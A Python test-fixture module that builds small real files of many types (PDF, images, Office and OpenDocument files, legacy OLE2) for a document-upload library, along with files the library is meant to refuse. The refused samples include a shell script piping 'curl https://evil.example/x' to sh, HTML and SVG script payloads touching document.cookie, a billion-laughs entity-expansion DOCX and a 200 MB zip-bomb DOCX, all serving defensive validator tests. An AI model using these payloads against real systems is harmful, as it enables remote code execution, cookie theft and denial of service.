"""Makers of small real files of every type the library accepts (and some it refuses),
written by the tests from their parts: no binary fixtures checked in."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from xml.sax.saxutils import escape

from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject


def pdf(text: str = "Falls prevention in care homes") -> bytes:
    """A one-page PDF that shows `text` in Helvetica (so pypdf can read it back)."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    page[NameObject("/Resources")] = DictionaryObject(
        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
    )
    safe = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    content = DecodedStreamObject()
    content.set_data(f"BT /F1 18 Tf 72 700 Td ({safe}) Tj ET".encode("latin-1"))
    page[NameObject("/Contents")] = writer._add_object(content)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png() -> bytes:
    """A 1x1 white PNG, chunk by chunk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\xff\xff")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    """An 8x8 mid-grey baseline JPEG: one quantisation table, two one-code Huffman tables,
    and one block whose DC difference and AC coefficients are all zero."""

    def segment(marker: int, data: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data

    quantisation = segment(0xDB, b"\x00" + b"\x01" * 64)
    frame = segment(0xC0, struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00")
    one_code = b"\x01" + b"\x00" * 15  # one code of length 1
    dc_table = segment(0xC4, b"\x00" + one_code + b"\x00")  # DC class 0: category 0
    ac_table = segment(0xC4, b"\x10" + one_code + b"\x00")  # AC class 0: end of block
    scan = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    return b"\xff\xd8" + quantisation + frame + dc_table + ac_table + scan + b"\x3f" + b"\xff\xd9"


def gif() -> bytes:
    """The classic 1x1 transparent GIF89a."""
    return base64.b64decode("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")


def webp() -> bytes:
    """A 1x1 lossless WebP (RIFF, WEBP, one VP8L chunk)."""
    return base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")


def _zip(entries: list[tuple[str, bytes]], *, stored_first: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for i, (name, data) in enumerate(entries):
            kind = zipfile.ZIP_STORED if stored_first and i == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name, (2026, 12, 1, 0, 0, 0)), data, compress_type=kind)
    return out.getvalue()


def _content_types(overrides: dict[str, str]) -> bytes:
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{parts}</Types>"
    ).encode()


def _rels(target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'officeDocument" Target="{target}"/></Relationships>'
    ).encode()


W_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def docx(paragraphs: tuple[str, ...] = ("Hand hygiene audit", "Results by ward"), *, main_type: str = W_MAIN) -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()
    return _zip(
        [
            ("[Content_Types].xml", _content_types({"/word/document.xml": main_type})),
            ("_rels/.rels", _rels("word/document.xml")),
            ("word/document.xml", document),
        ]
    )


def docx_with_xml(document: bytes) -> bytes:
    """A DOCX whose document part is `document` as given (for hostile XML)."""
    return _zip(
        [
            ("[Content_Types].xml", _content_types({"/word/document.xml": W_MAIN})),
            ("_rels/.rels", _rels("word/document.xml")),
            ("word/document.xml", document),
        ]
    )


def xlsx(cells: tuple[str, ...] = ("Ward", "Audit score")) -> bytes:
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strings = "".join(f"<si><t>{escape(c)}</t></si>" for c in cells)
    row = "".join(f'<c r="{chr(65 + i)}1" t="s"><v>{i}</v></c>' for i in range(len(cells)))
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types(
                    {
                        "/xl/workbook.xml": f"{sheet_type}.sheet.main+xml",
                        "/xl/worksheets/sheet1.xml": f"{sheet_type}.worksheet+xml",
                        "/xl/sharedStrings.xml": f"{sheet_type}.sharedStrings+xml",
                    }
                ),
            ),
            ("_rels/.rels", _rels("xl/workbook.xml")),
            (
                "xl/workbook.xml",
                f'<workbook xmlns="{ns}"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>'.encode(),
            ),
            ("xl/sharedStrings.xml", f'<sst xmlns="{ns}">{strings}</sst>'.encode()),
            ("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{ns}"><sheetData><row r="1">{row}</row>'
             "</sheetData></worksheet>".encode()),
        ]
    )  # fmt: skip


def pptx(slides: tuple[str, ...] = ("Deprescribing", "Questions")) -> bytes:
    p = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    base = "application/vnd.openxmlformats-officedocument.presentationml"
    overrides = {"/ppt/presentation.xml": f"{base}.presentation.main+xml"}
    entries: list[tuple[str, bytes]] = []
    for i, text in enumerate(slides, start=1):
        overrides[f"/ppt/slides/slide{i}.xml"] = f"{base}.slide+xml"
        entries.append(
            (
                f"ppt/slides/slide{i}.xml",
                f'<p:sld xmlns:p="{p}" xmlns:a="{a}"><p:cSld><p:spTree><p:sp><p:txBody>'
                f"<a:p><a:r><a:t>{escape(text)}</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>".encode(),
            )
        )
    return _zip(
        [
            ("[Content_Types].xml", _content_types(overrides)),
            ("_rels/.rels", _rels("ppt/presentation.xml")),
            ("ppt/presentation.xml", f'<p:presentation xmlns:p="{p}"/>'.encode()),
            *entries,
        ]
    )


def _odf(media_type: str, body: str) -> bytes:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" office:version="1.3">'
        f"<office:body>{body}</office:body></office:document-content>"
    ).encode()
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media_type}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    ).encode()
    return _zip(
        [("mimetype", media_type.encode()), ("content.xml", content), ("META-INF/manifest.xml", manifest)],
        stored_first=True,
    )


def odt(text: str = "Peer support minutes") -> bytes:
    return _odf(
        "application/vnd.oasis.opendocument.text", f"<office:text><text:p>{escape(text)}</text:p></office:text>"
    )


def ods(text: str = "Rota") -> bytes:
    return _odf(
        "application/vnd.oasis.opendocument.spreadsheet",
        f"<office:spreadsheet><table:table><table:table-row><table:table-cell><text:p>{escape(text)}</text:p>"
        "</table:table-cell></table:table-row></table:table></office:spreadsheet>",
    )


def odp(text: str = "Welcome") -> bytes:
    return _odf(
        "application/vnd.oasis.opendocument.presentation",
        f"<office:presentation><draw:page><draw:frame><draw:text-box><text:p>{escape(text)}</text:p>"
        "</draw:text-box></draw:frame></draw:page></office:presentation>",
    )


def ole2(stream: str = "WordDocument") -> bytes:
    """A compound file ([MS-CFB], version 3, 512-byte sectors) holding one 4 KB stream named
    `stream`: "WordDocument" is a legacy .doc, "Workbook" an .xls, "PowerPoint Document" a .ppt."""
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x003E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 76, 0, *([free] * 108))
    # Sector 0 is the FAT, sector 1 the directory, sectors 2-9 the stream.
    fat = [fat_sector, end, *range(3, 10), end] + [free] * (128 - 10)
    directory = _ole_entry("Root Entry", 5, child=1, start=end, size=0) + _ole_entry(stream, 2, start=2, size=4096)
    directory += b"\x00" * (512 - len(directory))
    return bytes(header) + struct.pack("<128I", *fat) + directory + b"\x00" * 4096


def _ole_entry(name: str, kind: int, *, child: int = 0xFFFFFFFF, start: int, size: int) -> bytes:
    encoded = name.encode("utf-16-le") + b"\x00\x00"
    entry = bytearray(128)
    entry[: len(encoded)] = encoded
    struct.pack_into("<HBB", entry, 64, len(encoded), kind, 1)
    struct.pack_into("<III", entry, 68, 0xFFFFFFFF, 0xFFFFFFFF, child)
    struct.pack_into("<IQ", entry, 116, start, size)
    return bytes(entry)


def text(body: str = "Notes from the huddle\n\tfollow-ups: none\r\n") -> bytes:
    return body.encode()


# What the library refuses.


def elf() -> bytes:
    """The start of a 64-bit Linux executable (ELF header)."""
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 200


def pe() -> bytes:
    """The start of a Windows executable: an MZ stub pointing at a PE header."""
    stub = bytearray(b"MZ" + b"\x00" * 126)
    struct.pack_into("<I", stub, 0x3C, 0x80)
    return bytes(stub) + b"PE\x00\x00" + b"\x00" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def plain_zip() -> bytes:
    return _zip([("notes.txt", b"just a zip"), ("more/readme.md", b"# hi")])


def billion_laughs_docx() -> bytes:
    """A DOCX whose document part is the classic entity expansion (10^9 "lol"s)."""
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    document = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    return docx_with_xml(document)


def zip_bomb_docx(megabytes: int = 200) -> bytes:
    """A DOCX whose document part inflates to `megabytes` MB of XML (whitespace between
    elements, about 200 KB compressed)."""
    head = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _content_types({"/word/document.xml": W_MAIN}))
        with archive.open("word/document.xml", "w") as entry:
            entry.write(head)
            block = b" " * (1024 * 1024)
            for _ in range(megabytes):
                entry.write(block)
            entry.write(b"</w:body></w:document>")
    return out.getvalue()
